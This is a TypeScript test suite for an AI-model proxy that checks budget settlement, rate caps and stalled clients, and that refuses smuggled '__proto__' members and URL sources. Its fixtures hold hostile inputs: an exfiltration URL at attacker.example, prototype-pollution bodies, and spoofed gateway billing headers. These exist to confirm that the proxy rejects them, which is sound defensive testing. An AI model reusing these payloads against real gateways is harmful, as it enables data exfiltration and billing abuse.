import assert from 'node:assert/strict';
import { once } from 'node:events';
import net from 'node:net';
import { afterAll, beforeAll, describe, test } from 'vitest';
import { randomUUID } from 'node:crypto';
import { admitProxiedRequest } from '../../src/application/model-access/admit-proxied-request.js';
import {
  AlreadySettledError,
  settleProxiedRequest,
} from '../../src/application/model-access/settle-proxied-request.js';
import { emptyReport } from '../../src/domain/budget/upstream-usage.js';
import { findModelProvider } from '../../src/store/model-providers.js';
import { findRunBySessionTokenHash } from '../../src/store/runs.js';
import { hashToken } from '../../src/application/tokens.js';
import { budgetOf, eventsOf, reportUsage, reservationsOf } from '../budget/support.js';
import { startTestApi, type TestApi } from '../support/api.js';
import { startFakeAnthropic, text, type FakeAnthropic } from '../support/fake-anthropic.js';
import { useHarness } from '../support/harness.js';
import { expectStatus } from '../support/seed.js';
import {
  createModelRun,
  createProvider,
  testFallbackPrice,
  drain,
  gateClient,
  postMessages,
  proxyLimits,
  smallRequest,
} from './support.js';

/**
 * The model endpoint as a hostile sandbox meets it: it chooses the body, the headers, the pace
 * at which it reads, and it can read its own ledger (the gate's request ids included).
 */

// Room for 50 requests of one run at once: the budget, not the cap, is what these tests look at.
const h = useHarness({ api: { modelProxy: proxyLimits({ concurrentPerRun: 64 }) } });
let fake: FakeAnthropic;
/**
 * An API that drops a client after one second without reading, counts tokens 3 times a minute,
 * and lets a run have 4 model requests in flight.
 */
let strict: TestApi;

beforeAll(async () => {
  fake = await startFakeAnthropic();
  strict = await startTestApi({
    modelProxy: proxyLimits({
      writeDeadlineMs: 1_000,
      countTokensPerMinute: 3,
      concurrentPerRun: 4,
    }),
  });
});
afterAll(async () => {
  strict.app.server.closeAllConnections();
  await strict.close();
  await fake.close();
});

async function until<T>(read: () => Promise<T>, done: (value: T) => boolean, what: string) {
  const deadline = Date.now() + 30_000;
  for (;;) {
    const value = await read();
    if (done(value)) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

const settled = (sessionId: string) =>
  until(
    () => reservationsOf(h.db, sessionId),
    (rows) => rows.length > 0 && rows.every((r) => r.status !== 'held'),
    'every reservation settled',
  );

/** JSON text with the member named `name` where the body has `__member__` (a JS literal can't). */
function withMember(body: unknown, name: string): string {
  return JSON.stringify(body).replaceAll('"__member__"', JSON.stringify(name));
}

describe('a reservation is settled only by whoever made it', () => {
  test("a runner's zero report on the model endpoint's reservation is refused (409, nothing changes) and the real usage is counted", async () => {
    const provider = await createProvider(h.api, h.seed, fake.url);
    const run = await createModelRun(h.api, h.seed, provider.id, 1_000_000);
    let resume!: () => void;
    const paused = new Promise<void>((resolve) => {
      resume = resolve;
    });
    const usage = { input_tokens: 300, output_tokens: 40_000 };
    fake.setScript(() => ({
      ...text('a long answer'),
      usage,
      pauseAt: { events: 2, until: paused },
    }));
    const stream = await gateClient(h.api, run.session_token).messages.create({
      ...smallRequest(50_000),
      stream: true,
    } as never);

    const [reserved] = await eventsOf(h.db, run.session_id, 'model.reserved');
    assert.ok(reserved, 'the endpoint booked nothing');
    const requestId = String(reserved.data.request_id);
    const refused = await reportUsage(h.api, run, requestId, { input_tokens: 0, output_tokens: 0 });
    assert.equal(refused.status, 409);
    assert.match(refused.body.detail, /model endpoint/);
    const during = await budgetOf(h.db, run.run_id);
    assert.equal(during.used_tokens, 0);
    assert.ok(during.held_tokens > 0, 'the hold was released by the runner');

    resume();
    await drain(stream);
    const [reservation] = await settled(run.session_id);
    assert.equal(reservation.status, 'reconciled');
    assert.equal(reservation.made_by, 'proxy');
    assert.deepEqual(await budgetOf(h.db, run.run_id), {
      max_tokens: 1_000_000,
      held_tokens: 0,
      used_tokens: usage.input_tokens + usage.output_tokens,
    });
    assert.equal((await eventsOf(h.db, run.session_id, 'model.reconciled')).length, 1);
  });

  test('a settlement that finds its reservation settled already is an error, and counts nothing twice', async () => {
    const provider = await createProvider(h.api, h.seed, fake.url);
    const created = await createModelRun(h.api, h.seed, provider.id, 1_000_000);
    const run = await findRunBySessionTokenHash(h.db, hashToken(created.session_token));
    const providerRow = await findModelProvider(h.db, provider.id);
    assert.ok(run && providerRow);
    const admission = await admitProxiedRequest(
      h.db,
      run,
      providerRow,
      Buffer.from(JSON.stringify(smallRequest(100))),
    );
    assert.ok(admission.kind === 'admitted', admission.kind);
    const end = {
      billing: 'billable' as const,
      report: {
        ...emptyReport(),
        inputReported: true,
        outputReported: true,
        complete: true,
        usage: { ...emptyReport().usage, input_tokens: 12, output_tokens: 3 },
      },
      facts: {
        outcome: 'completed',
        upstream_status: 200,
        upstream_request_id: null,
        latency_ms: 1,
      },
    };
    await settleProxiedRequest(h.db, run.workspace_id, admission.reservation, end);
    await assert.rejects(
      settleProxiedRequest(h.db, run.workspace_id, admission.reservation, end),
      AlreadySettledError,
    );
    assert.equal((await budgetOf(h.db, run.id)).used_tokens, 15);
  });
});

/** Every member of the body that is shaped like a record, with a path to put a member in. */
const recordShapedFields: [string, (member: unknown) => Record<string, unknown>, string][] = [
  [
    'a tool_use input',
    (member) => ({
      ...smallRequest(100),
      messages: [
        { role: 'user', content: 'go' },
        {
          role: 'assistant',
          content: [{ type: 'tool_use', id: 'tu1', name: 'Read', input: member }],
        },
      ],
    }),
    'messages[1].content[0].input.__proto__',
  ],
  [
    'a tool input_schema',
    (member) => ({
      ...smallRequest(100),
      tools: [{ name: 'Read', input_schema: { type: 'object', properties: member } }],
    }),
    'tools[0].input_schema.properties.__proto__',
  ],
  [
    'tool_choice',
    (member) => ({ ...smallRequest(100), tool_choice: member }),
    'tool_choice.__proto__',
  ],
  ['thinking', (member) => ({ ...smallRequest(100), thinking: member }), 'thinking.__proto__'],
  [
    'output_config',
    (member) => ({ ...smallRequest(100), output_config: member }),
    'output_config.__proto__',
  ],
  [
    'context_management',
    (member) => ({ ...smallRequest(100), context_management: member }),
    'context_management.__proto__',
  ],
  ['metadata', (member) => ({ ...smallRequest(100), metadata: member }), 'metadata.__proto__'],
  [
    'a value nested deep in a tool input',
    (member) => ({
      ...smallRequest(100),
      messages: [
        { role: 'user', content: 'go' },
        {
          role: 'assistant',
          content: [{ type: 'tool_use', id: 'tu1', name: 'Read', input: { a: { b: [member] } } }],
        },
      ],
    }),
    'messages[1].content[0].input.a.b[0].__proto__',
  ],
];

describe('no member of the body escapes the bound', () => {
  for (const [where, body, path] of recordShapedFields) {
    test(`"__proto__" in ${where} is refused with a 400 naming it, and never reaches the provider`, async () => {
      const provider = await createProvider(h.api, h.seed, fake.url);
      const run = await createModelRun(h.api, h.seed, provider.id, 100_000);
      const before = fake.messages().length;
      const raw = withMember(body({ __member__: { text: 'x'.repeat(10_000) } }), '__proto__');
      const answer = await postMessages(h.api, raw, { 'x-api-key': run.session_token });
      assert.equal(answer.status, 400, answer.text);
      assert.equal(answer.json.type, 'error');
      assert.equal(answer.json.error.type, 'invalid_request_error');
      assert.ok(
        answer.json.error.message.startsWith(`${path}:`),
        `${answer.json.error.message} does not name ${path}`,
      );
      assert.equal(fake.messages().length, before);
      assert.deepEqual(await reservationsOf(h.db, run.session_id), []);
    });
  }

  test('names that mean something to JavaScript but not to JSON ("constructor", "toString", "prototype") are ordinary members, counted in the bound', async () => {
    const provider = await createProvider(h.api, h.seed, fake.url);
    const run = await createModelRun(h.api, h.seed, provider.id, 1_000_000);
    fake.setScript(() => ({ ...text('ok'), usage: { input_tokens: 1, output_tokens: 1 } }));
    const [field] = recordShapedFields;
    const small = withMember(field![1]({ __member__: 'x' }), 'constructor');
    const large = withMember(field![1]({ __member__: 'x'.repeat(20_000) }), 'constructor');
    for (const raw of [small, large]) {
      const answer = await postMessages(h.api, raw, { 'x-api-key': run.session_token });
      assert.equal(answer.status, 200, answer.text);
    }
    const [first, second] = await reservationsOf(h.db, run.session_id);
    assert.ok(first && second);
    assert.ok(
      Number(second.input_bound_tokens) - Number(first.input_bound_tokens) >= 20_000 - 1,
      "the member's bytes were not counted",
    );
    for (const name of ['toString', 'prototype', 'hasOwnProperty']) {
      const raw = withMember(field![1]({ __member__: 'y' }), name);
      const answer = await postMessages(h.api, raw, { 'x-api-key': run.session_token });
      assert.equal(answer.status, 200, `${name}: ${answer.text}`);
    }
  });

  test('50 hostile requests at once on a budget of 100,000 (half hiding 650 kB under "__proto__", half carrying 30 kB under "constructor"), billed by their size: the run never spends past its allowance', async () => {
    const provider = await createProvider(h.api, h.seed, fake.url);
    const run = await createModelRun(h.api, h.seed, provider.id, 100_000);
    // The upstream bills input as the request's whole size in bytes: more than any tokenizer.
    fake.setScript((request) => ({
      ...text('ok'),
      usage: { input_tokens: request.raw.length, output_tokens: 50 },
    }));
    const [field] = recordShapedFields;
    const bodies = Array.from({ length: 50 }, (_, i) =>
      i % 2 === 0
        ? withMember(field![1]({ __member__: 'p'.repeat(650_000) }), '__proto__')
        : withMember(field![1]({ __member__: 'c'.repeat(30_000) }), 'constructor'),
    );
    const answers = await Promise.all(
      bodies.map((raw) => postMessages(h.api, raw, { 'x-api-key': run.session_token })),
    );
    const statuses = answers.map((a) => a.status);
    assert.equal(statuses.filter((s) => s === 400).length, 25);
    assert.ok(statuses.filter((s) => s === 200).length >= 1, `statuses: ${statuses.join(',')}`);
    assert.ok(
      statuses.every((s) => [200, 400, 402].includes(s)),
      `statuses: ${statuses.join(',')}`,
    );
    await settled(run.session_id);
    const budget = await budgetOf(h.db, run.run_id);
    assert.equal(budget.held_tokens, 0);
    assert.ok(budget.used_tokens > 0);
    assert.ok(
      budget.used_tokens <= budget.max_tokens,
      `used ${budget.used_tokens} of ${budget.max_tokens}`,
    );
    assert.ok(fake.messages().every((r) => !r.raw.includes('"__proto__"')));
  });
});

/** A streamed request written on a raw socket, whose reader takes the first bytes and then stops. */
async function stalledReader(api: TestApi, token: string, body: string) {
  const { port } = new URL(api.url);
  const socket = net.connect(Number(port), '127.0.0.1');
  await once(socket, 'connect');
  socket.write(
    `POST /anthropic/v1/messages HTTP/1.1\r\nhost: gate\r\nx-api-key: ${token}\r\n` +
      `content-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`,
  );
  const [first] = (await once(socket, 'data')) as [Buffer];
  socket.pause();
  return { socket, first: first.toString('latin1') };
}

describe("one run's model requests in flight are capped", () => {
  test('a run with 4 requests held upstream (its cap here) is refused a 5th with a 429 rate_limit_error, before its body is read; another run is not; a slot comes back when its answer ends', async () => {
    const provider = await createProvider(strict, h.seed, fake.url);
    const run = await createModelRun(strict, h.seed, provider.id, 1_000_000);
    const other = await createModelRun(strict, h.seed, provider.id, 1_000_000);
    let release!: () => void;
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    fake.setScript((request) =>
      request.body?.max_tokens === 11 ? { ...text('held'), waitFor: held } : text('ok'),
    );
    const body = JSON.stringify(smallRequest(11));
    const inFlight = Array.from({ length: 4 }, () =>
      postMessages(strict, body, { 'x-api-key': run.session_token }),
    );
    await until(
      () => reservationsOf(h.db, run.session_id),
      (rows) => rows.length === 4,
      'four requests booked',
    );
    const refused = await postMessages(strict, JSON.stringify(smallRequest(5)), {
      'x-api-key': run.session_token,
    });
    assert.equal(refused.status, 429, refused.text);
    assert.equal(refused.json.error.type, 'rate_limit_error');
    assert.ok(Number(refused.headers.get('retry-after')) >= 1);
    const elsewhere = await postMessages(strict, JSON.stringify(smallRequest(5)), {
      'x-api-key': other.session_token,
    });
    assert.equal(elsewhere.status, 200, elsewhere.text);
    release();
    for (const answer of await Promise.all(inFlight)) assert.equal(answer.status, 200);
    const again = await postMessages(strict, JSON.stringify(smallRequest(5)), {
      'x-api-key': run.session_token,
    });
    assert.equal(again.status, 200, again.text);
    assert.equal((await reservationsOf(h.db, run.session_id)).length, 5);
  });
});

describe('an error the provider did not clearly refuse with is charged', () => {
  test('a 502 from a gateway in front of the provider may come after billed work: the whole booking is charged; a 529 refusal costs nothing', async () => {
    const provider = await createProvider(h.api, h.seed, fake.url);
    const run = await createModelRun(h.api, h.seed, provider.id, 1_000_000);
    fake.setScript(() => ({ ...text('x'), status: 502 }));
    const gateway = await postMessages(h.api, JSON.stringify(smallRequest(500)), {
      'x-api-key': run.session_token,
    });
    assert.equal(gateway.status, 502);
    fake.setScript(() => ({ ...text('x'), status: 529 }));
    const overloaded = await postMessages(h.api, JSON.stringify(smallRequest(700)), {
      'x-api-key': run.session_token,
    });
    assert.equal(overloaded.status, 529);
    const rows = await settled(run.session_id);
    const charged = rows.find((r) => Number(r.max_output_tokens) === 500);
    assert.ok(charged);
    assert.deepEqual(await budgetOf(h.db, run.run_id), {
      max_tokens: 1_000_000,
      held_tokens: 0,
      used_tokens: Number(charged.booked_tokens),
    });
  });
});

describe('a client that stops reading is charged', () => {
  test('a reader that takes the first bytes of a 32 MB stream and then neither reads nor closes: dropped after the write deadline (1 s here), and the usage the upstream reported is settled', async () => {
    const provider = await createProvider(strict, h.seed, fake.url);
    const run = await createModelRun(strict, h.seed, provider.id, 1_000_000);
    const usage = { input_tokens: 50, output_tokens: 7_777 };
    const block = 'z'.repeat(16 * 1024);
    fake.setScript(() => ({
      content: Array.from({ length: 2_000 }, () => ({ type: 'text' as const, text: block })),
      stop_reason: 'end_turn',
      usage,
    }));
    const { socket, first } = await stalledReader(
      strict,
      run.session_token,
      JSON.stringify({ ...smallRequest(10_000), stream: true }),
    );
    try {
      assert.match(first, /^HTTP\/1\.1 200/);
      const stalledAt = Date.now();
      const [reservation] = await settled(run.session_id);
      // The bound: the write deadline, plus reading 32 MB on a loaded machine.
      assert.ok(Date.now() - stalledAt < 25_000, 'the stalled reader held the exchange');
      assert.equal(reservation.status, 'reconciled');
      assert.deepEqual(await budgetOf(h.db, run.run_id), {
        max_tokens: 1_000_000,
        held_tokens: 0,
        used_tokens: usage.input_tokens + usage.output_tokens,
      });
      const [reconciled] = await eventsOf(h.db, run.session_id, 'model.reconciled');
      assert.equal(reconciled?.data.outcome, 'client_disconnected');
      // The gate cut the connection: read what it had sent, and the socket ends.
      socket.resume();
      await once(socket, 'close', { signal: AbortSignal.timeout(15_000) });
    } finally {
      socket.destroy();
    }
  });
});

describe('egress through the provider is a choice', () => {
  const withSource = (source: Record<string, unknown>, type: 'image' | 'document') => ({
    ...smallRequest(100),
    messages: [
      {
        role: 'user',
        content: [
          { type, source },
          { type: 'text', text: 'what is this?' },
        ],
      },
    ],
  });
  const leak = { type: 'url', url: 'https://attacker.example/leak?d=secret' };

  test('an image or document whose source is a URL is refused, at any depth, unless the provider allows URL sources', async () => {
    const provider = await createProvider(h.api, h.seed, fake.url);
    const run = await createModelRun(h.api, h.seed, provider.id, 1_000_000);
    const before = fake.messages().length;
    const cases: [unknown, string][] = [
      [withSource(leak, 'image'), 'messages[0].content[0].source'],
      [withSource(leak, 'document'), 'messages[0].content[0].source'],
      [
        {
          ...smallRequest(100),
          messages: [
            { role: 'user', content: 'go' },
            { role: 'assistant', content: [{ type: 'tool_use', id: 't', name: 'R', input: {} }] },
            {
              role: 'user',
              content: [
                {
                  type: 'tool_result',
                  tool_use_id: 't',
                  content: [{ type: 'image', source: leak }],
                },
              ],
            },
          ],
        },
        'messages[2].content[0].content[0].source',
      ],
    ];
    for (const [body, path] of cases) {
      const answer = await postMessages(h.api, JSON.stringify(body), {
        'x-api-key': run.session_token,
      });
      assert.equal(answer.status, 400, answer.text);
      assert.ok(answer.json.error.message.startsWith(`${path}:`), answer.json.error.message);
    }
    assert.equal(fake.messages().length, before);

    const open = await expectStatus<{ id: string; allow_url_sources: boolean }>(
      h.api.call('POST', '/v1/model-providers', {
        token: h.api.operatorKey,
        body: {
          workspace: h.seed.workspace,
          name: `open-${randomUUID().slice(0, 8)}`,
          kind: 'anthropic',
          base_url: fake.url,
          credential: { type: 'api_key', key: `sk-ant-test-${randomUUID()}` },
          allow_url_sources: true,
        },
      }),
      201,
    );
    assert.equal(open.allow_url_sources, true);
    await expectStatus(
      h.api.call('PUT', `/v1/model-providers/${open.id}/fallback-price`, {
        token: h.api.operatorKey,
        body: testFallbackPrice,
      }),
      200,
    );
    const openRun = await createModelRun(h.api, h.seed, open.id, 1_000_000);
    fake.setScript(() => text('an image'));
    const allowed = await postMessages(h.api, JSON.stringify(withSource(leak, 'image')), {
      'x-api-key': openRun.session_token,
    });
    assert.equal(allowed.status, 200, allowed.text);
  });

  test("headers reach the provider by an allow list: a gateway's routing and billing headers, x-forwarded-for and cookies stay at the gate", async () => {
    const provider = await createProvider(h.api, h.seed, fake.url);
    const run = await createModelRun(h.api, h.seed, provider.id, 1_000_000);
    fake.setScript(() => text('ok'));
    const hostile = {
      'x-portkey-virtual-key': 'pk-victim',
      'x-litellm-model': 'expensive-model',
      'cf-aig-authorization': 'Bearer other-account',
      'x-forwarded-for': '203.0.113.9',
      cookie: 'session=1',
      'x-stainless-retry-count': '0',
    };
    const answer = await postMessages(h.api, JSON.stringify(smallRequest(10)), {
      'x-api-key': run.session_token,
      'anthropic-beta': 'some-beta-2025-01-01',
      'content-type': 'text/plain; charset=iso-8859-1',
      ...hostile,
    });
    assert.equal(answer.status, 200, answer.text);
    const received = fake.messages().at(-1)!.headers;
    for (const name of Object.keys(hostile)) assert.equal(received[name], undefined, name);
    assert.equal(received['content-type'], 'application/json');
    assert.equal(received['anthropic-version'], '2023-06-01');
    assert.equal(received['anthropic-beta'], 'some-beta-2025-01-01');
    assert.equal(received['x-api-key'], provider.key);
  });
});

describe('count_tokens is read, bounded and limited like messages', () => {
  const count = (api: TestApi, token: string, body: string) =>
    postMessages(api, body, { 'x-api-key': token }, '/anthropic/v1/messages/count_tokens');
  const countBody = { model: 'claude-fake-1', messages: [{ role: 'user', content: 'hi' }] };

  test('bad bodies, hidden members, URL sources and inputs larger than the run are refused before the provider', async () => {
    const provider = await createProvider(h.api, h.seed, fake.url);
    const run = await createModelRun(h.api, h.seed, provider.id, 1_000);
    const before = fake.requests.length;
    const refusals: [string, RegExp][] = [
      ['{"model":"claude-fake-1"}', /^messages:/],
      [JSON.stringify({ ...countBody, max_tokens: 10 }), /max_tokens/],
      [
        withMember({ ...countBody, thinking: { __member__: {} } }, '__proto__'),
        /^thinking\.__proto__:/,
      ],
      [
        JSON.stringify({
          ...countBody,
          messages: [
            {
              role: 'user',
              content: [{ type: 'image', source: { type: 'url', url: 'https://x.example/a' } }],
            },
          ],
        }),
        /URL source/,
      ],
      [JSON.stringify({ ...countBody, system: 'y'.repeat(5_000) }), /allowance of 1000/],
    ];
    for (const [body, message] of refusals) {
      const answer = await count(h.api, run.session_token, body);
      assert.equal(answer.status, 400, answer.text);
      assert.match(answer.json.error.message, message);
    }
    assert.equal(fake.requests.length, before);
  });

  test('a run counts tokens at most its limit a minute (3 here), refused bodies included: then 429 with retry-after, while another run still counts', async () => {
    const provider = await createProvider(strict, h.seed, fake.url);
    const run = await createModelRun(strict, h.seed, provider.id, 1_000_000);
    const other = await createModelRun(strict, h.seed, provider.id, 1_000_000);
    for (let i = 0; i < 2; i++) {
      const answer = await count(strict, run.session_token, JSON.stringify(countBody));
      assert.equal(answer.status, 200, answer.text);
      assert.equal(typeof answer.json.input_tokens, 'number');
    }
    assert.equal((await count(strict, run.session_token, '{"model":"claude-fake-1"}')).status, 400);
    const limited = await count(strict, run.session_token, JSON.stringify(countBody));
    assert.equal(limited.status, 429);
    assert.equal(limited.json.error.type, 'rate_limit_error');
    assert.ok(Number(limited.headers.get('retry-after')) >= 1);
    assert.equal((await count(strict, other.session_token, JSON.stringify(countBody))).status, 200);
    assert.deepEqual(await reservationsOf(h.db, run.session_id), []);
  });
});
